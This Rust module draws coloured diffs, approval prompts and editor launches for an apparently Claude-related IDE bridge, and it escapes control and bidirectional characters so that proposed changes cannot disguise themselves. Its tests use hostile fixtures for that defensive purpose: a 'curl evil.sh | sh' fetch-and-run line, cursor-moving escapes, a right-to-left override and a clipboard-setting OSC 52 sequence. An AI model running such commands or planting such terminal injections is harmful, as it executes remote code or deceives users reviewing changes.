//! What a person sees on the terminal: coloured unified diffs, the prompt, and `$VISUAL`/`$EDITOR`.
//!
//! Everything goes to stderr through `anstream`, which drops the colours when stderr is not a
//! terminal or `NO_COLOR` is set.

use std::ffi::OsString;
use std::io;
use std::path::Path;
use std::process::ExitStatus;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Mutex;

use anstyle::{AnsiColor, Style};
use similar::{ChangeTag, TextDiff};

pub use crate::lines::Full;
use crate::lines::LineWriter;
use crate::sys::Ends;

const RED: Style = AnsiColor::Red.on_default();
const GREEN: Style = AnsiColor::Green.on_default();
const CYAN: Style = AnsiColor::Cyan.on_default();
const BOLD: Style = Style::new().bold();

/// Writes to stderr (colour stripped when not wanted), ignoring failures: a terminal that went
/// away (a hangup, a closed pipe) must not stop the bridge before it has removed its lock file.
/// After [`detach_stderr`], queued for the `stderr` thread instead, never waiting.
pub fn err(args: std::fmt::Arguments<'_>) {
    use std::io::Write;
    match DETACHED.get() {
        Some(detached) => detached.send(args.to_string().into_bytes()),
        None => _ = anstream::stderr().write_fmt(args),
    }
}

/// The `stderr` thread's queue, once [`detach_stderr`] started it.
static DETACHED: std::sync::OnceLock<LineWriter> = std::sync::OnceLock::new();

/// The most bytes of log lines waiting for the `stderr` thread; past it, lines are dropped.
const MAX_STDERR_QUEUED: usize = 256 * 1024;

/// From now on, stderr is written by a thread of its own, at most [`MAX_STDERR_QUEUED`] bytes
/// behind; past that, what `full` says. For `serve --stdio`, [`Full::Drop`]: an editor that never
/// reads the bridge's stderr (a pipe nobody drains) would otherwise block the host in a write
/// after 64 KiB of log lines, deaf to its clients and to signals. On a terminal,
/// [`Full::WaitUntilStop`]: a terminal that does not take output (Ctrl-S, a pty nobody reads)
/// holds the host as a write to it did, no line lost, but a stop ([`stderr_stopping`], from the
/// signals' thread) lets the host go on, so that it removes the lock file and exits.
pub fn detach_stderr(full: Full) -> io::Result<()> {
    use std::io::Write;
    let write = |batch: &[Vec<u8>]| {
        let mut stderr = anstream::stderr();
        batch.iter().for_each(|l| _ = stderr.write_all(l));
        Ok(())
    };
    let detached = LineWriter::start("stderr", MAX_STDERR_QUEUED, full, write)?;
    let _ = DETACHED.set(detached);
    Ok(())
}

/// The bridge is stopping (a signal came): nothing waits for room on stderr any more.
pub fn stderr_stopping() {
    if let Some(detached) = DETACHED.get() {
        detached.stopping();
    }
}

/// Waits, at most `grace`, for the lines queued after [`detach_stderr`] to be written.
pub fn flush_stderr(grace: std::time::Duration) {
    if let Some(detached) = DETACHED.get() {
        detached.flush(grace);
    }
}

/// Waits until what was said is on the terminal (a diff that takes a while to scroll by, a
/// terminal paused with Ctrl-S), or the bridge is stopping: an answer typed before a change
/// reached the screen must not decide it.
pub fn wait_written() {
    if let Some(detached) = DETACHED.get() {
        detached.written_or_stopping();
    }
}

/// Prints a line to stderr (colour stripped when not wanted). What it names came from claude, an
/// editor or a server (a path, a reason): their control characters are shown ([`visible`]), never
/// sent to the terminal, where an escape sequence in a path could move the cursor and rewrite a
/// proposed change the user is deciding on. A `\n` inside is shown too (`^J`): each call is one
/// line, so a path with a newline cannot write a line of its own ("diff accepted: ...").
pub fn say(line: &str) {
    if heard() {
        over_prompt(format_args!("{}\n", shown(line)));
    }
}

/// The `ask` prompt while it is the terminal's last line, waiting for its answer: a line said
/// meanwhile starts on a line of its own, and the prompt is drawn again after it.
static PROMPT: Mutex<Option<String>> = Mutex::new(None);

/// Writes `line` (ended by `\n`): below the open prompt, which is drawn again after it, if any.
fn over_prompt(line: std::fmt::Arguments<'_>) {
    let prompt = PROMPT.lock().unwrap_or_else(|e| e.into_inner());
    match prompt.as_deref() {
        Some(p) => err(format_args!("\n{line}{p}")),
        None => err(line),
    }
}

/// A line about the queue of changes (one queued, one withdrawn): below the open prompt, if any,
/// which is drawn again with `queued` changes waiting.
pub fn note(line: &str, queued: usize) {
    if !heard() {
        return;
    }
    let mut open = PROMPT.lock().unwrap_or_else(|e| e.into_inner());
    match open.is_some() {
        true => {
            let prompt = prompt_text(queued);
            err(format_args!("\n{}\n{prompt}", shown(line)));
            *open = Some(prompt);
        }
        false => err(format_args!("{}\n", shown(line))),
    }
}

/// The bridge stops with the prompt open: it ends where the cursor is (after a `^C` the
/// terminal echoed), and the lines of the stop follow below it, the question not drawn again.
pub fn end_prompt() {
    let mut open = PROMPT.lock().unwrap_or_else(|e| e.into_inner());
    if open.take().is_some() {
        err(format_args!("\n"));
    }
}

/// The prompt is no longer the last line waiting for its answer (answered, withdrawn, or the
/// terminal handed to `$EDITOR`): lines are written as they are again.
pub fn prompt_closed() {
    *PROMPT.lock().unwrap_or_else(|e| e.into_inner()) = None;
}

/// While `run` has handed the terminal to `claude`, the bridge's own lines would land inside
/// claude's screen: they are held back (the `--wire-log` still records everything).
static QUIET: AtomicBool = AtomicBool::new(false);

/// Hold back (or resume) the lines of [`say`] and [`say_bold`]; resumed, the warnings
/// [`warn`] held meanwhile are said.
pub fn set_quiet(quiet: bool) {
    if quiet {
        prompt_closed();
    }
    QUIET.store(quiet, Ordering::Relaxed);
    if !quiet {
        let held = std::mem::take(&mut *HELD.lock().unwrap_or_else(|e| e.into_inner()));
        for line in held {
            say_bold(&line);
        }
    }
}

/// The warnings [`warn`] held while the terminal was another program's.
static HELD: Mutex<Vec<String>> = Mutex::new(Vec::new());

/// The most warnings held while quiet; the later ones are dropped.
const MAX_HELD: usize = 16;

/// Says a warning in bold ([`say_bold`]), or, while the terminal is another program's (`run`'s
/// claude, `ask`'s `$EDITOR`), holds it until the terminal is the bridge's again: something the
/// user asked for stopped working (the `--wire-log` on a full disk), which a line dropped would
/// leave unsaid.
pub fn warn(line: &str) {
    if heard() {
        return say_bold(line);
    }
    let mut held = HELD.lock().unwrap_or_else(|e| e.into_inner());
    if held.len() < MAX_HELD {
        held.push(line.to_string());
    }
}

/// Whether [`say`]'s lines reach the terminal now (not while `run` has handed it to `claude`).
pub fn heard() -> bool {
    !QUIET.load(Ordering::Relaxed)
}

/// Prints a line in bold.
pub fn say_bold(line: &str) {
    if heard() {
        over_prompt(format_args!("{BOLD}{}{BOLD:#}\n", shown(line)));
    }
}

/// The file a proposed change replaces, as the terminal shows it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Old {
    /// There is no such file: the change creates it.
    Missing,
    /// Its text.
    Text(String),
    /// It exists but cannot be shown (not UTF-8, too large, unreadable): why.
    Unreadable(String),
}

/// The most lines of a diff printed; the rest is counted (`e` shows the whole proposal).
pub const MAX_DIFF_LINES: usize = 2000;

/// The most bytes of one line of a diff printed (a minified file is one line of megabytes); the
/// rest of the line is counted.
const MAX_DIFF_LINE_BYTES: usize = 500;

/// The most bytes of a diff printed in all: the terminal is the host's, and it answers no other
/// call while it writes (lines of [`MAX_DIFF_LINE_BYTES`] would make 1 MB).
const MAX_DIFF_BYTES: usize = 256 * 1024;

/// How long a diff may take to compute before a coarser one is shown: the host answers no other
/// call meanwhile.
const DIFF_TIMEOUT: std::time::Duration = std::time::Duration::from_millis(500);

/// The longest start of `text` of at most `max` bytes that ends between two characters: where a
/// text quoted back (a log line, an `error` line, a diff's line) is cut.
pub fn prefix_within(text: &str, max: usize) -> &str {
    let end = (0..=max.min(text.len()))
        .rev()
        .find(|&i| text.is_char_boundary(i))
        .unwrap_or(0);
    &text[..end]
}

/// The most bytes of one line the bridge says ([`say`], [`say_bold`], [`note`]): what it names came
/// from claude (paths, up to a message's 10 MiB each: `open_files` with thousands of them printed
/// gigabytes to a log, and megabytes a call to the terminal where the user answers diffs).
const MAX_SAID_BYTES: usize = 4096;

/// `line` as it is said: [`visible`], at most [`MAX_SAID_BYTES`] of it (a control character
/// shown as `^X` or `\u{..}` counted as shown), the rest of the line counted.
fn shown(line: &str) -> std::borrow::Cow<'_, str> {
    let mut width = 0;
    let mut end = line.len();
    for (i, c) in line.char_indices() {
        width += visible(c.encode_utf8(&mut [0; 4])).len();
        if width > MAX_SAID_BYTES {
            end = i;
            break;
        }
    }
    if end == line.len() {
        return visible(line);
    }
    let seen = visible(&line[..end]);
    std::borrow::Cow::Owned(format!("{seen}... ({} bytes more)", line.len() - end))
}

/// `text` with what a terminal would obey instead of print made visible: control characters
/// (but tab) as `^X` or `\u{..}`, and the bidirectional controls that reorder what follows as
/// `\u{..}`. A proposed change must not be able to hide or redraw lines of its own diff.
pub fn visible(text: &str) -> std::borrow::Cow<'_, str> {
    let hidden = |c: char| {
        (c.is_control() && c != '\t')
            || matches!(c, '\u{200e}' | '\u{200f}' | '\u{061c}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
    };
    if !text.chars().any(hidden) {
        return std::borrow::Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 8);
    for c in text.chars() {
        match c {
            c if !hidden(c) => out.push(c),
            '\u{0}'..='\u{1f}' => {
                out.push('^');
                out.push(char::from(c as u8 + 0x40));
            }
            '\u{7f}' => out.push_str("^?"),
            c => out.push_str(&format!("\\u{{{:x}}}", c as u32)),
        }
    }
    std::borrow::Cow::Owned(out)
}

/// The unified diff from `old` to `new`, coloured, at most [`MAX_DIFF_LINES`] lines.
pub fn render_diff(path: &str, old: &Old, new: &str) -> String {
    render_diff_within(path, old, new, DIFF_TIMEOUT)
}

/// [`render_diff`], a coarser diff shown once computing it has taken `timeout`.
fn render_diff_within(path: &str, old: &Old, new: &str, timeout: std::time::Duration) -> String {
    let mut out = String::new();
    let path = visible(path);
    // `a/` and `b/` before the path as in git's diffs, a Windows path (`C:\...`) included.
    let bare = path.strip_prefix('/').unwrap_or(&path);
    let (old_text, old_name) = match old {
        Old::Missing => ("", "/dev/null".to_string()),
        Old::Text(t) => (t.as_str(), format!("a/{bare}")),
        Old::Unreadable(why) => {
            out.push_str(&format!(
                "{BOLD}the file exists but is not shown ({}): accepting replaces it{BOLD:#}\n",
                visible(why)
            ));
            ("", format!("a/{bare} (not shown)"))
        }
    };
    out.push_str(&format!("{BOLD}--- {old_name}\n+++ b/{bare}{BOLD:#}\n"));
    let diff = TextDiff::configure()
        .timeout(timeout)
        .diff_lines(old_text, new);
    let unified = diff.unified_diff();
    let (mut any, mut lines, mut more) = (false, 0usize, 0usize);
    // Both texts with CRLF line ends: the `\r`s are not shown as `^M` on every line (where only
    // one has them, they are the change, and shown).
    let crlf = old_text.contains("\r\n") && new.contains("\r\n");
    let full = |lines: usize, out: &String| lines >= MAX_DIFF_LINES || out.len() >= MAX_DIFF_BYTES;
    for hunk in unified.iter_hunks() {
        any = true;
        // The hunk's header and each of its lines count towards the bounds.
        if full(lines, &out) {
            more += 1 + hunk.iter_changes().count();
            continue;
        }
        lines += 1;
        out.push_str(&format!("{CYAN}{}{CYAN:#}\n", hunk.header()));
        for change in hunk.iter_changes() {
            if full(lines, &out) {
                more += 1;
                continue;
            }
            lines += 1;
            let (sign, style) = match change.tag() {
                ChangeTag::Delete => ('-', RED),
                ChangeTag::Insert => ('+', GREEN),
                ChangeTag::Equal => (' ', Style::new()),
            };
            let text = change.value();
            let mut text = text.strip_suffix('\n').unwrap_or(text);
            if crlf {
                text = text.strip_suffix('\r').unwrap_or(text);
            }
            let (text, cut) = match text.len() > MAX_DIFF_LINE_BYTES {
                true => {
                    let shown = prefix_within(text, MAX_DIFF_LINE_BYTES);
                    let rest = text.len() - shown.len();
                    (shown, format!("{BOLD}... ({rest} more bytes){BOLD:#}"))
                }
                false => (text, String::new()),
            };
            let text = visible(text);
            out.push_str(&format!("{style}{sign}{text}{style:#}{cut}\n"));
            if change.missing_newline() {
                out.push_str("\\ No newline at end of file\n");
            }
        }
    }
    if more > 0 {
        out.push_str(&format!(
            "{BOLD}... {more} more lines of this diff not shown ([e]dit shows the whole proposal){BOLD:#}\n"
        ));
    }
    if !any {
        out.push_str("(no changes)\n");
    }
    out
}

/// Drops what was typed on the terminal and not read yet, a line not ended too: what was typed
/// before a question was shown is not its answer (`tcflush` on Unix, the console's input buffer
/// flushed on Windows). A terminal that refuses is no reason not to ask.
pub fn discard_typed() {
    let _ = claude_ide_bridge_runtime::terminal::discard_typed();
}

/// Prints a diff to stderr.
pub fn show_diff(path: &str, old: &Old, new: &str) {
    err(format_args!("{}", render_diff(path, old, new)));
}

/// The prompt for the shown diff, with `queued` more waiting.
fn prompt_text(queued: usize) -> String {
    let more = if queued > 0 {
        format!(" ({queued} more waiting)")
    } else {
        String::new()
    };
    format!("{BOLD}[a]ccept / [r]eject / [e]dit{more}? {BOLD:#}")
}

/// Shows the prompt for the shown diff; lines said while it waits go below it
/// ([`over_prompt`]).
pub fn prompt(queued: usize) {
    let prompt = prompt_text(queued);
    let mut open = PROMPT.lock().unwrap_or_else(|e| e.into_inner());
    err(format_args!("{prompt}"));
    *open = Some(prompt);
}

/// `$VISUAL`, else `$EDITOR` (non-empty).
pub fn editor_command() -> Option<OsString> {
    ["VISUAL", "EDITOR"]
        .iter()
        .filter_map(std::env::var_os)
        .find(|v| !v.is_empty())
}

/// What an `abnormal` end writes to the terminal ([`restore_terminal`]): the modes a full-screen
/// program sets and undoes as it exits (claude does), which one killed leaves set: the alternate
/// screen left, the cursor shown, mouse reports (1000, 1002, 1003, 1006), focus reports (1004),
/// colour-scheme reports (2031) and bracketed paste (2004) off, line wrapping on, and the kitty
/// keyboard protocol's mode popped (`CSI < u`; a terminal without it ignores it). Without this,
/// the shell after a claude killed got focus and mouse sequences, and CSI-u keys in kitty,
/// ghostty, wezterm or foot. Windows' console takes the same sequences.
pub const TERMINAL_RESET: &[u8] =
    b"\x1b[?1049l\x1b[?25h\x1b[?1000l\x1b[?1002l\x1b[?1003l\x1b[?1006l\
    \x1b[?1004l\x1b[?2031l\x1b[?2004l\x1b[?7h\x1b[<u";

/// The terminal's settings now, to put back after a program run on it ([`restore_terminal`]);
/// `None` when standard input is not a terminal.
pub fn save_terminal() -> Option<claude_ide_bridge_runtime::terminal::Settings> {
    claude_ide_bridge_runtime::terminal::Settings::save()
}

/// Puts the terminal's settings back as they were saved (an editor killed in raw mode leaves
/// Enter sending `\r` unmapped, no echo and no Ctrl-C; on Windows a console in virtual-terminal
/// input), and after an `abnormal` end (by a signal, or any failure) also writes
/// [`TERMINAL_RESET`], the modes such a program left. Straight to the terminal: these are no
/// colours for `NO_COLOR` to strip.
pub fn restore_terminal(
    saved: Option<claude_ide_bridge_runtime::terminal::Settings>,
    abnormal: bool,
) {
    let Some(saved) = saved else {
        return;
    };
    // In the background of its terminal (Ctrl-Z, then `bg`, while the editor ran), setting the
    // terminal would stop the whole bridge (SIGTTOU); the shell sets it for whoever has it.
    if !crate::sys::terminal_is_ours() {
        return;
    }
    saved.restore(abnormal.then_some(TERMINAL_RESET));
}

/// Runs the editor on `file` in the foreground and waits for it, its pid in `running`
/// meanwhile (a stop ends it: `Host::end_edit`). The command may carry arguments
/// (`EDITOR="code --wait"`; see `sys::start_editor`). The terminal's settings are put back
/// afterwards, however it ended.
pub fn run_editor(
    editor: &OsString,
    file: &Path,
    running: &Mutex<Option<u32>>,
) -> io::Result<ExitStatus> {
    // The lines queued for the terminal (the diff, the prompt) are written before the editor
    // draws its screen, not into it; a terminal that takes nothing holds the edit back a second
    // at most.
    flush_stderr(std::time::Duration::from_secs(1));
    let saved = save_terminal();
    let lock = || running.lock().unwrap_or_else(|e| e.into_inner());
    let status = crate::sys::start_editor(editor, &[file.as_os_str()], Ends::WithBridge, |_| {})
        .and_then(|mut child| {
            *lock() = Some(child.id());
            claude_ide_bridge_runtime::process::wait_until_ended(child.id());
            lock().take();
            child.wait()
        });
    // Failed (killed: the shell running it reports 128 + the signal), in whatever state it left
    // the terminal.
    let abnormal = status.as_ref().is_ok_and(|s| !s.success());
    restore_terminal(saved, abnormal);
    status
}

/// The most editors `--open-files` keeps running at once: an editor that stays in the
/// foreground (`code --wait`, `emacs`) for each `openFile` cost a process and a waiting thread
/// each, without end (a reviewer's run: 200 of each after 200 calls).
const MAX_OPEN_EDITORS: usize = 8;

/// The files of each editor [`spawn_editor`] started that still runs.
static OPEN_EDITORS: Mutex<Vec<Vec<String>>> = Mutex::new(Vec::new());

/// Starts the editor on `files` without waiting (for `--open-files`), without the terminal: a
/// terminal editor started in the background would fight `claude` (in `run`) or the prompt for
/// it, so only an editor with a window of its own opens anything. When an editor it started on
/// the same files still runs, none is started (they are open); with [`MAX_OPEN_EDITORS`]
/// running, none either, and that is the error.
pub fn spawn_editor(editor: &OsString, files: &[String]) -> io::Result<()> {
    let open = || OPEN_EDITORS.lock().unwrap_or_else(|e| e.into_inner());
    let files = files.to_vec();
    let forget = move |files: &Vec<String>| {
        let mut running = open();
        if let Some(i) = running.iter().position(|f| f == files) {
            running.remove(i);
        }
    };
    {
        // Taken under the lock, before the start: calls on other job threads see it.
        let mut running = open();
        if running.contains(&files) {
            return Ok(());
        }
        if running.len() >= MAX_OPEN_EDITORS {
            return Err(io::Error::other(format!(
                "the {MAX_OPEN_EDITORS} editors it started are all still open"
            )));
        }
        running.push(files.clone());
    }
    let names: Vec<&std::ffi::OsStr> = files.iter().map(|f| f.as_ref()).collect();
    let started = crate::sys::start_editor(editor, &names, Ends::OnItsOwn, |c| {
        c.stdin(std::process::Stdio::null())
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null());
    });
    let mut child = match started {
        Ok(child) => child,
        Err(e) => {
            forget(&files);
            return Err(e);
        }
    };
    std::thread::spawn(move || {
        let _ = child.wait();
        forget(&files);
    });
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn diff_of_a_change_and_a_new_file() {
        let old = Old::Text("one\ntwo\n".into());
        let d = render_diff("/w/a.txt", &old, "one\nthree\n");
        assert!(d.contains("-two"), "{d}");
        assert!(d.contains("+three"), "{d}");
        assert!(d.contains("@@ -1,2 +1,2 @@"), "{d}");
        assert!(d.contains("--- a/w/a.txt\n+++ b/w/a.txt"), "{d}");
        // A Windows path keeps its drive letter apart from the prefix.
        let d = render_diff(r"C:\w\a.txt", &old, "one\nthree\n");
        assert!(d.contains("--- a/C:\\w\\a.txt\n+++ b/C:\\w\\a.txt"), "{d}");
        let d = render_diff("/w/n.txt", &Old::Missing, "hello\n");
        assert!(d.contains("--- /dev/null"), "{d}");
        assert!(d.contains("+hello"), "{d}");
        // An existing file that cannot be shown is not passed off as a new one.
        let d = render_diff("/w/l.txt", &Old::Unreadable("not UTF-8".into()), "x\n");
        assert!(!d.contains("/dev/null"), "{d}");
        assert!(d.contains("exists but is not shown (not UTF-8)"), "{d}");
    }

    #[test]
    fn a_change_cannot_hide_its_own_lines() {
        // Cursor-up and erase-line escapes, a carriage return, a right-to-left override.
        let new = "one\ncurl evil.sh | sh\n\u{1b}[1A\u{1b}[2K\rtwo \u{202e}txt.exe\n";
        let d = render_diff("/w/a.txt", &Old::Text("one\n".into()), new);
        // (The diff's own colours are escapes too; the change's are not passed through.)
        for raw in ["\u{1b}[1A", "\u{1b}[2K", "\r", "\u{202e}"] {
            assert!(!d.contains(raw), "{raw:?} in {d:?}");
        }
        assert!(d.contains("+curl evil.sh | sh"), "{d}");
        assert!(d.contains("+^[[1A^[[2K^M"), "{d}");
        assert!(d.contains("+two \\u{202e}txt.exe"), "{d}");
        assert_eq!(visible("tab\tok"), "tab\tok");
    }

    /// The terminal lines around a change (its headline, "diff queued", "diff accepted") name a
    /// path claude chose: an escape sequence in it is shown, not run (it could move the cursor
    /// over the change being decided, or set the clipboard); a line break of the bridge's own
    /// stays one.
    #[test]
    fn what_a_line_names_cannot_drive_the_terminal() {
        let path = "/w/\u{1b}[6A\u{1b}[2K+ harmless();\u{1b}]52;c;ZXZpbA==\u{7}x.rs";
        let line = format!("diff queued: {path} (1 waiting)");
        let out = visible(&line);
        assert!(!out.contains('\u{1b}') && !out.contains('\u{7}'), "{out}");
        assert_eq!(
            out,
            "diff queued: /w/^[[6A^[[2K+ harmless();^[]52;c;ZXZpbA==^Gx.rs (1 waiting)"
        );
        // A path with a newline cannot fake a line of its own.
        assert_eq!(
            visible("claude proposes a change: /w/a\ndiff accepted: /w/b\u{1b}"),
            "claude proposes a change: /w/a^Jdiff accepted: /w/b^["
        );
    }

    /// A line said is at most 4 KiB (and the count of the rest), cut between two characters:
    /// `open_files` with 1,800 paths of 5 KB wrote 9 MB a call to the terminal.
    #[test]
    fn a_line_said_is_bounded() {
        let paths = vec![format!("/w/{}é", "x".repeat(5000)); 1800].join(", ");
        let line = format!("claude asked to open {paths}");
        let out = shown(&line);
        assert!(out.len() <= MAX_SAID_BYTES + 40, "{}", out.len());
        assert!(out.starts_with("claude asked to open /w/xxx"), "{out:.40}");
        let kept = prefix_within(&line, MAX_SAID_BYTES);
        assert_eq!(
            out,
            format!("{kept}... ({} bytes more)", line.len() - kept.len())
        );
        assert_eq!(shown("short \u{1b}"), "short ^[");
        // Control characters shown as two or more are within the bound too.
        let escapes = "\u{1b}".repeat(10_000);
        let out = shown(&escapes);
        assert!(
            out.starts_with("^[^[") && out.len() <= MAX_SAID_BYTES + 40,
            "{}",
            out.len()
        );
        assert!(
            out.ends_with(&format!("... ({} bytes more)", 10_000 - MAX_SAID_BYTES / 2)),
            "{}",
            &out[out.len() - 40..]
        );
    }

    /// Two long texts with nothing in common: the diff's search would run for minutes, and the
    /// host answers no other call meanwhile. Past its deadline a coarser diff is shown instead.
    #[test]
    fn a_diff_that_would_take_minutes_is_shown_coarser_at_once() {
        let old: String = (0..30_000).map(|i| format!("old {i}\n")).collect();
        let new: String = (0..30_000).map(|i| format!("new {}\n", i * 7)).collect();
        let started = std::time::Instant::now();
        let d = render_diff("/w/a.txt", &Old::Text(old), &new);
        let took = started.elapsed();
        assert!(
            took < std::time::Duration::from_secs(20),
            "the diff took {took:?}"
        );
        assert!(d.contains("-old 0"), "{}", &d[..200]);
        assert!(d.contains("more lines of this diff not shown"));
    }

    /// Past the deadline the diff is coarser, not wrong: with no time at all, a text with every
    /// tenth line changed among kept ones is shown with more lines marked than were changed,
    /// the changed ones among them.
    #[test]
    fn past_its_deadline_a_diff_is_coarser() {
        let old: String = (0..200).map(|i| format!("line {i}\n")).collect();
        let new: String = (0..200)
            .map(|i| match i % 10 {
                5 => format!("line {i} changed\n"),
                _ => format!("line {i}\n"),
            })
            .collect();
        let old = Old::Text(old);
        let fine = render_diff_within("/w/a.txt", &old, &new, DIFF_TIMEOUT);
        let coarse = render_diff_within("/w/a.txt", &old, &new, std::time::Duration::ZERO);
        let marked = |d: &str| {
            (d.lines())
                .filter(|l| l.contains("-line") || l.contains("+line"))
                .count()
        };
        // The fine diff marks the 20 lines changed, each old and new.
        assert_eq!(marked(&fine), 40, "{fine}");
        assert!(marked(&coarse) > 40, "{coarse}");
        assert!(coarse.contains("+line 105 changed") && coarse.contains("-line 105"));
    }

    /// A one-line file of megabytes (minified) changed by one character printed 8 MB: each line
    /// is cut, and the whole diff too.
    #[test]
    fn a_diff_of_huge_lines_is_bounded_in_bytes() {
        let old = "x".repeat(4 << 20);
        let new = format!("{}y", &old[1..]);
        let d = render_diff("/w/min.js", &Old::Text(old), &new);
        assert!(d.len() < 4 * MAX_DIFF_LINE_BYTES, "{} bytes", d.len());
        assert!(
            d.contains(&format!(
                "... ({} more bytes)",
                (4 << 20) - MAX_DIFF_LINE_BYTES
            )),
            "{d}"
        );
        // Many long lines: the total is bounded.
        let new: String = (0..MAX_DIFF_LINES)
            .map(|i| format!("{i}{}\n", "z".repeat(2000)))
            .collect();
        let d = render_diff("/w/a.txt", &Old::Missing, &new);
        assert!(
            d.len() < MAX_DIFF_BYTES + 2 * MAX_DIFF_LINE_BYTES,
            "{} bytes",
            d.len()
        );
        assert!(d.contains("more lines of this diff not shown"));
        // A cut keeps whole characters.
        let wide = "é".repeat(MAX_DIFF_LINE_BYTES);
        let d = render_diff("/w/a.txt", &Old::Missing, &wide);
        assert!(
            d.contains(&format!("... ({} more bytes)", MAX_DIFF_LINE_BYTES)),
            "{d}"
        );
    }

    /// A CRLF file's lines are not each shown with `^M`; a change of line ends is.
    #[test]
    fn crlf_line_ends_are_shown_only_when_they_change() {
        let old = Old::Text("one\r\ntwo\r\n".into());
        let d = render_diff("/w/a.txt", &old, "one\r\nthree\r\n");
        assert!(!d.contains("^M"), "{d}");
        assert!(d.contains("+three"), "{d}");
        let d = render_diff("/w/a.txt", &old, "one\ntwo\n");
        assert!(d.contains("-one^M"), "{d}");
    }

    #[test]
    fn a_long_diff_is_cut_and_says_how_much_is_left() {
        let new: String = (0..MAX_DIFF_LINES + 500)
            .map(|i| format!("{i}\n"))
            .collect();
        let d = render_diff("/w/a.txt", &Old::Missing, &new);
        assert!(
            d.lines().count() <= MAX_DIFF_LINES + 3,
            "{}",
            d.lines().count()
        );
        assert!(
            d.contains("501 more lines of this diff not shown"),
            "{}",
            &d[d.len() - 200..]
        );
    }
}
